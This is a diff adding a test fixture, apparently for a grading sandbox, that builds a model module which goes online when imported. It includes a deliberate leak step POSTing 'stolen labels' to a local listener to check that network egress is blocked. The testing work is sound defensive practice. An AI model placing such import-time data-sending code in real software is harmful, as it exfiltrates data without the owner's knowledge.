@@ -386,6 +386,42 @@ def import_exit(folder: Path, state: dict, how: str) -> Path:
     return write(folder, _module(attack), state)
 
 
+# Harmless networked code at import, as students write it: a dataset download in
+# try/except, a probe of a local visdom/TensorBoard server that expects "connection
+# refused" offline, and (the leak) a POST of "labels" to the grader machine's listener.
+ONLINE_AT_IMPORT = """\
+import socket
+import urllib.request
+
+try:
+    urllib.request.urlopen("https://www.cs.toronto.edu/~kriz/cifar-10-python.tar.gz", timeout=3)
+except Exception:
+    pass
+try:
+    with socket.create_connection(("localhost", 8097), timeout=3):
+        VISDOM = True
+except ConnectionRefusedError:
+    VISDOM = False
+""" + (
+    LEAK_AT_IMPORT := """\
+import urllib.request
+
+try:
+    urllib.request.urlopen("http://127.0.0.1:__PORT__/leak", data=b"stolen labels", timeout=3)
+    LEAK = "SENT"
+except Exception as exc:
+    LEAK = type(getattr(exc, "reason", exc)).__name__
+"""
+) + """print("__TAG__-NET", VISDOM, LEAK, flush=True)
+"""
+
+
+def online_at_import(folder: Path, state: dict, port: int) -> Path:
+    """An honest SimpleCNN whose module goes online when imported (see ONLINE_AT_IMPORT)."""
+    probe = ONLINE_AT_IMPORT.replace("__PORT__", str(port)).replace("__TAG__", TAG)
+    return write(folder, probe + "\n\n" + honest_source(), state)
+
+
 def import_loop(folder: Path, state: dict) -> Path:
     return write(folder, _module("while True:\n    pass\n"), state)
 
